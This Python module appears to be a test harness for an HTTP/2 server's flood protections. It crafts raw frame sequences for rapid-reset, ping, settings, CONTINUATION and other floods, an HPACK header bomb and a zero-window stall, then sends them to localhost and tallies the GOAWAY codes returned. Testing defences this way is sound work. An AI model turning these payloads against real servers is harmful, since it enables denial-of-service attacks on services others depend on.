"""What a client of HTTP/2 may send to harm, as bytes, and who sends it as fast as it can.

    flood = FLOODS["ping"]
    seen = attack(port, flood, seconds=1.0)
    assert set(seen.codes) == {flood.code}

Who stalls does not send fast, but holds what he is owed: hold_back() does so on many connections at once.
"""

import select
import socket
import struct
import time
from collections import Counter
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
ENHANCE_YOUR_CALM = 11
PATIENCE_S = 10
STALLED_STREAMS = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text):
    assert len(text) < 127
    return bytes([len(text)]) + text


def request(path, method=b"\x82"):
    """GET (or, by its index, another method), http, and a path, as HPACK has them without a table."""
    return method + b"\x86\x04" + literal(path) + b"\x01" + literal(b"localhost")


def settings(**entries):
    numbers = {"initial_window": 4}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in entries.items()))


@dataclass(frozen=True)
class Flood:
    name: str
    reason: str  # of http2_connections_cut_total
    block: bytes  # behind the preface and SETTINGS
    code: int = ENHANCE_YOUR_CALM
    opening: bytes = settings()


def streams(count):
    return range(1, 2 * count, 2)


def bomb(path):
    """A field of 4,000 bytes, which goes into the table, and then its index 12,000 times."""
    size = 4_000 - 127
    length = bytes([0x7F]) + bytes([size & 0x7F | 0x80, size >> 7])
    return request(path) + b"\x40\x01x" + length + b"v" * 4_000 + b"\xbe" * 12_000


def floods(path):
    get = request(path)
    post = request(path, b"\x83")
    return [
        Flood("rapid reset", "resets", b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, id, get) + frame(RST_STREAM, 0, id, struct.pack(">I", 8))
            for id in streams(2_000))),
        Flood("resets that the server makes", "resets", b"".join(
            frame(HEADERS, END_HEADERS, id, post) + frame(WINDOW_UPDATE, 0, id, struct.pack(">I", 0x7FFFFFFF))
            for id in streams(2_000))),
        Flood("streams beyond the limit", "resets", b"".join(
            frame(HEADERS, END_HEADERS, id, post) for id in streams(2_000))),
        Flood("ping", "idle_frames", frame(PING, 0, 0, b"12345678") * 12_000),
        Flood("settings", "idle_frames", settings() * 12_000),
        Flood("priority", "idle_frames", frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 0)) * 12_000),
        Flood("empty data", "idle_frames", frame(HEADERS, END_HEADERS, 1, post) + frame(DATA, 0, 1) * 12_000),
        Flood("unknown frames", "idle_frames", frame(0x42, 0, 0) * 12_000),
        Flood("continuation", "idle_frames", frame(HEADERS, 0, 1, get) + frame(CONTINUATION, 0, 1) * 12_000),
        Flood("header bomb", "header_bomb", b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, id, bomb(path)) for id in streams(2))),
    ]


def stall(path, count=STALLED_STREAMS):
    """Asks for so many replies, and gives no window for any."""
    return PREFACE + settings(initial_window=0) + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, id, request(path)) for id in streams(count))


def codes_in(received, kind):
    """Of RST_STREAM or GOAWAY, in what has come."""
    codes, at = [], 0
    while at + 9 <= len(received):
        size = int.from_bytes(received[at:at + 3], "big")
        payload = received[at + 9:at + 9 + size]
        if received[at + 3] == kind and len(payload) == size:
            codes.append(struct.unpack(">I", payload[4:8] if kind == GOAWAY else payload)[0])
        at += 9 + size
    return codes


def last_word(received):
    """The code of the GOAWAY that a connection ends with; nothing: it ends with another frame. Not by reading all frames: who
    floods must not become the one who works."""
    size, payload = 8, received[-8:]
    ends_with_it = received[:-size][-9:] == frame(GOAWAY, 0, 0, payload)[:9]
    return struct.unpack(">I", payload[4:])[0] if ends_with_it else None


@dataclass
class Seen:
    connections: int = 0
    codes: Counter = field(default_factory=Counter)  # of the last GOAWAY of each
    cut_off: int = 0  # without one that could be read


def flood_once(port, flood, seen):
    end = b""
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE_S) as client:
        seen.connections += 1
        try:
            client.sendall(PREFACE + flood.opening + flood.block)
        except OSError:
            pass  # it has been cut, and what it was told may still be read
        try:
            while part := client.recv(65536):
                end = (end + part)[-17:]
        except OSError:
            pass
    code = last_word(end)
    if code is None:
        seen.cut_off += 1
    else:
        seen.codes[code] += 1


def attack(port, flood, seconds):
    """One connection after the other."""
    seen, until = Seen(), time.monotonic() + seconds
    while time.monotonic() < until:
        flood_once(port, flood, seen)
    return seen


def hold_back(port, path, seconds, connections=50):
    """Each asks for a hundred replies and takes none, until it is told that all are over; then another one does."""
    seen, until = Seen(), time.monotonic() + seconds
    open_ones = {}
    while time.monotonic() < until:
        while len(open_ones) < connections:
            client = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE_S)
            client.sendall(stall(path))
            open_ones[client] = b""
        for client in select.select(list(open_ones), [], [], 0.1)[0]:
            part = client.recv(65536)
            open_ones[client] += part
            codes = codes_in(open_ones[client], RST_STREAM)
            if part and len(codes) < STALLED_STREAMS:
                continue
            seen.connections += 1
            seen.codes.update(set(codes))
            seen.cut_off += not codes
            del open_ones[client]
            client.close()
    for client in open_ones:
        client.close()
    return seen
